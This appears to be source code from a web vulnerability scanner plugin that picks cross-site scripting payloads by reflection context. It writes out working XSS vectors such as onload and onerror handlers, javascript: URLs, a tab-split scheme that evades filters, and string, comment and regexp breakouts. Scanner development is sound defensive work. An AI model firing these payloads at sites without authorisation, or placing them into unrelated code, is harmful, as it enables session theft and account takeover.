import { boundCall, type Quoting, type ReflectionContext, type ScriptPlace } from "@picket/plugin-sdk/probe";

/** A way from a place where a value came back to a call of a function of our own name. */
export interface Vector {
  /** Special characters without which it does not work. */
  readonly needs: string;
  /** True when nothing may stand before it: a scheme, or an expression. */
  readonly isBare: boolean;
  write(name: string): string;
}

function vector(needs: string, write: Vector["write"], isBare = false): Vector {
  return { needs, isBare, write };
}

/** An element that runs something as soon as it is there, after what ends the place. */
function newElement(end: string, needs: string): Vector {
  return vector(`${needs}<>`, (name) => `${end}<svg/onload=${name}()>`);
}

/**
 * Between tags, for filters that know one of them: such as drop the first sign or tag, words of scripts, handlers, whatever
 * ends with `>`, which the page goes on with anyway, or parentheses; last for what is decoded after it was encoded.
 */
const IN_TEXT: readonly Vector[] = [
  newElement("<", ""),
  vector("<>", (name) => `<x><img src=x onerror=${name}()>`),
  vector("<>", (name) => `<script>${name}()</script>`),
  vector("<", (name) => `<img src=x onerror=${name}()//`),
  vector("<>`", (name) => `<svg/onload=${name}\`\`>`),
  vector("<>:", (name) => `<iframe src=javascript:${name}()>`),
  vector("<>", (name) => `<details open ontoggle=${name}()>`),
  vector("%", (name) => `%3Csvg/onload=${name}()%3E`),
];

const QUOTES = { double: '"', single: "'", none: "" } as const satisfies Record<Quoting, string>;

/** A handler beside the attribute that the value stands in; what follows the value becomes an attribute of its own. */
function handlerBeside(quoting: Quoting): Vector {
  const quote = QUOTES[quoting];
  if (quote === "") return vector("", (name) => ` onfocus=${name}() `);
  return vector(quote, (name) => `${quote}onfocus=${quote}${name}()${quote}x=${quote}`);
}

/** `tail`: closes what the rest of the line closes, as that becomes a comment. */
function inString(quote: string, tail = ""): Vector[] {
  return [
    vector(quote, (name) => `${quote}-${name}()-${quote}`),
    // Where the quote is escaped but the backslash is not.
    vector("\\", (name) => `\\${quote}-${name}()${tail}//`),
  ];
}

function inPattern(tail = ""): Vector[] {
  return [vector("/", (name) => `/-${name}()${tail}//`)];
}

const BY_PLACE: Readonly<Record<ScriptPlace, readonly Vector[]>> = {
  "single-quoted": inString("'"),
  "double-quoted": inString('"'),
  template: [vector("", (name) => `\${${name}()}`)],
  code: [vector("", (name) => `${name}()`, true)],
  "line-comment": [vector("\n", (name) => `\n${name}()//`)],
  "block-comment": [vector("/", (name) => `*/;${name}();/*`)],
  regexp: inPattern(),
};

/** The second for those that look for the word: browsers drop tabs and know it in any case. */
const SCRIPT_ADDRESSES: readonly Vector[] = [
  vector(":", (call) => `javascript:${call}()`, true),
  vector(":", (call) => `JaVa\tScRiPt:${call}()`, true),
];

type AttributeContext = Extract<ReflectionContext, { kind: "attribute" }>;

function attributeVectors({ element, name, quoting, role, isWhole, place }: AttributeContext): Vector[] {
  const isSource = element === "script" && name === "src";
  // The browser undoes entities before it reads a script, a document or an address, so that signs survive in any form.
  const undone = (vectors: readonly Vector[]) => vectors.map((one) => ({ ...one, needs: "" }));
  return [
    ...(place ? undone(BY_PLACE[place]) : []),
    ...(place === "single-quoted" ? [vector("&;", (call) => `&#39;-${call}()-&#39;`)] : []),
    ...(role === "document" ? undone(IN_TEXT.slice(0, 1)) : []),
    ...(role === "url" && isWhole && isSource ? [vector("/", (host) => `//${host}.example/`, true)] : []),
    ...(role === "url" && isWhole && !isSource ? SCRIPT_ADDRESSES : []),
    handlerBeside(quoting),
    newElement(`${QUOTES[quoting]}>`, QUOTES[quoting]),
  ];
}

function scriptVectors({ place, tail }: Extract<ReflectionContext, { kind: "script" }>): readonly Vector[] {
  if (place === "single-quoted") return inString("'", tail);
  if (place === "double-quoted") return inString('"', tail);
  return place === "regexp" ? inPattern(tail) : BY_PLACE[place];
}

/** Ways out of a place, the one that needs least first. None where nothing runs: JSON, text, headers. */
export function vectorsFor(context: ReflectionContext): readonly Vector[] {
  switch (context.kind) {
    case "text":
      return IN_TEXT;
    case "raw-text":
      return [newElement(`</${context.element}>`, "/")];
    case "bound":
      return [vector("{", boundCall)];
    case "comment":
      return [newElement("-->", "")];
    case "tag-name":
      return [vector("/", (name) => `svg/onload=${name}()/`, true), newElement("x>", "")];
    case "attribute-name":
      return [vector("", (name) => ` onfocus=${name}() `), newElement(">", "")];
    case "attribute":
      return attributeVectors(context);
    case "script":
      return [...scriptVectors(context), newElement("</script>", "/")];
    case "data-block":
      return [newElement("</script>", "/")];
    case "style":
      return [newElement("</style>", "/")];
    default:
      return [];
  }
}

/** The same for several places: the first way of each, then the second of each; every way once. */
export function vectorsForAll(contexts: readonly ReflectionContext[]): Vector[] {
  const lists = contexts.map(vectorsFor);
  const longest = Math.max(0, ...lists.map(({ length }) => length));
  const inTurn = Array.from({ length: longest }, (_, index) => lists.map((list) => list[index])).flat();
  const unique = new Map(inTurn.flatMap((one) => (one ? [[one.write("x"), one] as const] : [])));
  return [...unique.values()];
}
